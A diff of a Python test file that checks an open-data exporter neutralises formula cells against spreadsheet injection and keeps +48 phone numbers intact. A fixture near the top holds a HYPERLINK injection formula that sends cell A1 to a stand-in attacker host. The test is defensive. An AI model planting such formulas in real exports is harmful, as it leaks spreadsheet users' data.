@@ -6,14 +6,18 @@ import csv
 import io
 import json
 import zipfile
+from datetime import date
 from pathlib import Path
 
 import pytest
 from frictionless import Package
 
-from generator.parts.opendata.csv_export import neutralise
 from generator.parts.opendata.package_zip import NOTE, package_zip
+from generator.register.formula_cells import formula_like, neutralise
+from generator.validation.validate import validate
 from tests.registers import make_base
+
+PROJECT_REGISTER = Path(__file__).resolve().parent.parent / "register"
 
 FORMULA = '=HYPERLINK("http://zly.example/?x="&A1,"kliknij")'
 STRAY = (
@@ -79,7 +83,9 @@ def test_formula_cells_are_neutralised_as_in_the_csv_exports(archive: zipfile.Zi
     assert club["adres"].startswith("'@SUM")
     assert club["szerokosc"] == "54.4050"  # numbers untouched
     cells = [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]
-    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert not [c for c in cells if formula_like(c)]
+    phones = [c for c in cells if c.startswith("+48")]
+    assert phones, "the demo register has phone numbers: they stay as typed"
 
 
 def test_the_note_says_where_values_changed(archive: zipfile.ZipFile) -> None:
@@ -98,3 +104,12 @@ def test_the_zipped_package_stays_valid(register: Path, tmp_path: Path) -> None:
     path.write_bytes(package_zip(register))
     report = Package(str(path)).validate()
     assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])[:5]
+
+
+def test_the_unzipped_demo_package_passes_our_own_validation(tmp_path: Path) -> None:
+    """Phone numbers such as +48 … are not touched, so the unzipped package is a valid register."""
+    with zipfile.ZipFile(io.BytesIO(package_zip(PROJECT_REGISTER))) as archive:
+        archive.extractall(tmp_path / "rejestr")
+    (tmp_path / "rejestr" / "datapackage.json").unlink()  # the JSON twin of the descriptor
+    report = validate(tmp_path / "rejestr", date(2026, 12, 7))
+    assert [p.code for p in report.problems if p.severity == "error"] == []
